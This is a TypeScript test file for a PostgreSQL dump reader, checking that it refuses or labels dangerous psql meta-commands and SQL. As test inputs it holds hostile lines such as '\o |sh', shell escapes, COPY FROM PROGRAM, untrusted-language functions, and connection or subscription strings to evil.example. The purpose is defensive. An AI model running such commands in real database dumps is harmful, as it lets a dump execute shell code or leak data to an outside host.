import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { HarnessError } from '../../errors.ts'
import type { Dump } from '../dump.ts'
import { readDump } from '../read-dump.ts'

let folder: string
let files = 0
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'greenlight-scripts-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function readText(content: string | Buffer): Promise<Dump> {
  const path = join(folder, `${files++ % 8}.sql`)
  await writeFile(path, content)
  return readDump(path)
}

const begin = '--\n-- PostgreSQL database dump\n--\n\n'
const end = '--\n-- PostgreSQL database dump complete\n--\n\n'
const table = 'CREATE TABLE public.t (a int);\n'
const rows = 'COPY public.t (a) FROM stdin;\n1\n\\.\n'
const plain = (...statements: string[]) => `${begin}${table}${rows}${statements.join('\n')}\n${end}`
const refused = (message: string | RegExp) => ({ code: 'dump.not-supported', message: expect.stringMatching(message) })

describe('commands of psql', () => {
  test('that pg_dump writes are understood, not run', async () => {
    const dump = await readText(`${begin}\\restrict abc\n${table}${rows}\\unrestrict abc\n\n${end}`)
    expect(dump.tables).toHaveLength(1)
  })

  test.each([
    '\\! touch x',
    "\\copy t from program 'x'",
    '\\i other.sql',
    '\\unrestrict `touch x`',
    '\\unrestrict abc',
    '\\restrict abc\n\\restrict abc',
    '\\restrict abc\n\\connect postgres',
    '\\connect "host=evil.example dbname=x"',
    '\\connect postgresql://evil.example/x',
    '\\connect db user host 5432',
    '\\connect -reuse-previous=on "dbname=\'x\' host=evil.example"',
    '\\set x `touch x`',
    '\\o |sh',
    '\\',
  ])('of any other kind refuse the whole dump, with the line: %s', async (line) => {
    const script = `${begin}${table}${rows}${line}\n${end}`
    const at = script.slice(0, script.lastIndexOf(line.split('\n').at(-1) ?? '')).split('\n').length
    await expect(readText(script)).rejects.toMatchObject(refused(new RegExp(`\\.sql:${at} holds the psql command`)))
  })

  test('in rows, strings, comments and function bodies are text', async () => {
    const dump = await readText(
      plain('-- \\! x', "COMMENT ON TABLE public.t IS '\n\\! x';", 'COPY public.t FROM stdin;\n\\! x\n\\.'),
    )
    expect(dump.entries.map(({ type }) => type)).toContain('COMMENT')
  })
})

test.each([
  ['a program', "COPY public.t FROM PROGRAM 'x';"],
  ['an untrusted language', 'CREATE FUNCTION public.f() RETURNS int AS $$x$$ LANGUAGE plpythonu;'],
  ['a DO block', 'DO $$ begin end $$;'],
  ['an unknown setting', "SET datestyle = 'German';"],
  ['another format of rows', 'COPY public.t FROM stdin WITH CSV;\n1\n\\.'],
  ['rows that are made by a call', 'INSERT INTO public.t VALUES (f());'],
  ['text in another encoding', "SET client_encoding = 'LATIN1';"],
])('%s refuses the whole dump, with the line', async (_, statement) => {
  await expect(readText(plain(statement))).rejects.toMatchObject(refused(/\.sql:9 holds/))
})

test('a comment in front cannot make a subscription look like something that is restored, or a table like something that is not', async () => {
  const header = (type: string) => `-- Name: x; Type: ${type}; Schema: public; Owner: postgres\n`
  const { entries } = await readText(
    plain(
      `${header('TABLE')}CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p;`,
      `${header('SUBSCRIPTION')}CREATE TABLE public.u ();`,
      `${header('TABLE DATA')}CREATE TABLE public.v ();`,
      `${header('TABLE')}CREATE TABLE public.x ();\nALTER SUBSCRIPTION s ENABLE;\nCREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f();`,
    ),
  )
  const holding = (text: string) =>
    entries.filter(({ definition }) => definition.includes(text)).map(({ type }) => type)
  expect(holding('CREATE SUBSCRIPTION')).toEqual(['SUBSCRIPTION'])
  expect(holding('ALTER SUBSCRIPTION')).toEqual(['SUBSCRIPTION'])
  expect(holding('EVENT TRIGGER')).toEqual(['EVENT TRIGGER'])
  for (const name of ['u', 'v', 'x']) expect(holding(`CREATE TABLE public.${name}`)).toEqual(['TABLE'])
})

test('text that is not UTF-8 is refused with its place', async () => {
  const script = Buffer.from(plain("COMMENT ON TABLE public.t IS 'caf\xe9';"), 'latin1')
  await expect(readText(script)).rejects.toMatchObject({
    code: 'dump.corrupt',
    message: expect.stringContaining(`.sql:9 holds text that is not UTF-8, at byte ${script.indexOf(0xe9)}`),
  })
  await expect(readText(plain("COMMENT ON TABLE public.t IS 'a\0b';").padEnd(100_000, '\n'))).rejects.toBeInstanceOf(
    HarnessError,
  )
  const late = Buffer.concat([Buffer.from(plain('-- é'.repeat(600_000))), Buffer.from([0xc3])])
  await expect(readText(late)).rejects.toMatchObject({ code: 'dump.corrupt' })
})

test('wherever a plain dump is cut, that it is cut is found', async () => {
  const script = plain('CREATE INDEX i ON public.t (a);')
  for (let length = begin.length; length < script.lastIndexOf(' complete'); length += 3) {
    await expect(readText(script.slice(0, length)), `cut at ${length}`).rejects.toMatchObject({
      code: expect.stringMatching(/^dump\.(truncated|not-supported)$/),
    })
  }
  await expect(readText(script.slice(0, script.indexOf('\\.')))).rejects.toMatchObject({ code: 'dump.truncated' })
  await expect(readText(script.replace(end, ''))).rejects.toMatchObject({
    code: 'dump.truncated',
    message: expect.stringContaining('"-- PostgreSQL database dump complete"'),
  })
})

describe('a dump of a whole cluster', () => {
  const verifier = 'SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy'
  const cluster = (databases: string) =>
    `--\n-- PostgreSQL database cluster dump\n--\n\nCREATE ROLE "my app";\nALTER ROLE "my app" WITH NOSUPERUSER LOGIN PASSWORD '${verifier}' VALID UNTIL '2020-01-01';\n` +
    'CREATE TABLESPACE fast OWNER postgres LOCATION \'/fast\';\nGRANT anon TO "my app" GRANTED BY supabase_admin;\n' +
    `${databases}\n--\n-- PostgreSQL database cluster dump complete\n--\n`
  const postgres = `\\connect postgres\n${plain()}`

  test('restores database postgres only, and says which others it leaves out', async () => {
    const dump = await readText(
      gzipSync(
        cluster(
          `\\connect template1\n${begin}SET lock_timeout = 0;\n${end}\\connect other\n${plain()}CREATE DATABASE third;\n${postgres}CREATE DATABASE fourth;\nALTER DATABASE fourth SET x TO 'y';\n`,
        ),
      ),
    )
    expect(dump.facts).toMatchObject({ format: 'cluster', database: 'postgres' })
    expect(dump.tables).toHaveLength(1)
    expect(
      dump.entries.filter(({ type }) => /^DATABASE/.test(type)).map(({ type, name }) => `${type} ${name}`),
    ).toEqual(['DATABASE other', 'DATABASE fourth'])
  })

  test('keeps no verifier of a password', async () => {
    const dump = await readText(cluster(postgres))
    expect(JSON.stringify(dump)).not.toMatch(/SCRAM|c3RvcmVk|2020-01-01/)
    expect(dump.entries.find(({ type }) => type === 'ROLE')?.definition).toBe(
      'CREATE ROLE "my app";\nALTER ROLE "my app" WITH NOSUPERUSER LOGIN;\n-- left out: its password, the day it expires\n',
    )
    expect(dump.roles).toEqual([])
  })

  test('without the database of the project, or without its end, is refused', async () => {
    await expect(readText(cluster(`\\connect other\n${plain()}`))).rejects.toMatchObject(
      refused(/no database postgres/),
    )
    await expect(
      readText(cluster(postgres).replace(/--\n-- PostgreSQL database cluster dump complete\n--\n$/, '')),
    ).rejects.toMatchObject({ code: 'dump.truncated' })
  })
})

test('rows of INSERT statements are read as COPY text', async () => {
  const dump = await readText(
    `${begin}CREATE TABLE public.t (a int, b text, c int);\nINSERT INTO public.t (a, b, c) VALUES (1, 'it''s\n\t\\N', DEFAULT);\nINSERT INTO public.t (a, b, c) VALUES (-2.5e3, NULL, DEFAULT), (true, '', DEFAULT);\n${end}`,
  )
  const entry = dump.entries.find(({ type }) => type === 'TABLE DATA')
  expect(entry?.copyStatement).toBe('COPY "public"."t" ("a", "b") FROM stdin;\n')
  const pieces: Buffer[] = []
  for await (const piece of dump.data.rows(entry?.id ?? 0)) pieces.push(piece)
  expect(Buffer.concat(pieces).toString()).toBe("1\tit's\\n\\t\\\\N\n-2.5e3\t\\N\ntrue\t\n")
})

test('whatever bytes change, reading ends, with a dump or with a HarnessError', async () => {
  const script = Buffer.from(
    plain(
      'INSERT INTO public.t VALUES (1), (2);\nCREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS $a$ select 1 $a$;\nALTER TABLE ONLY public.t ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES public.t(a);\nGRANT SELECT ON TABLE public.t TO "x";',
    ),
  )
  const bytes = fc.oneof(fc.integer({ min: 0, max: 255 }), fc.constantFrom(...Buffer.from('\'"$\\;()-*/\n .,')))
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(script.length - 1), bytes), { minLength: 1, maxLength: 5 }),
      async (changes) => {
        const copy = Buffer.from(script)
        for (const [at, value] of changes) copy[at] = value
        try {
          const dump = await readText(copy)
          for (const { entryId } of dump.tables) for await (const _ of dump.data.rows(entryId));
        } catch (error) {
          if (!(error instanceof HarnessError)) throw error
        }
      },
    ),
    { numRuns: 500, seed: 6 },
  )
})
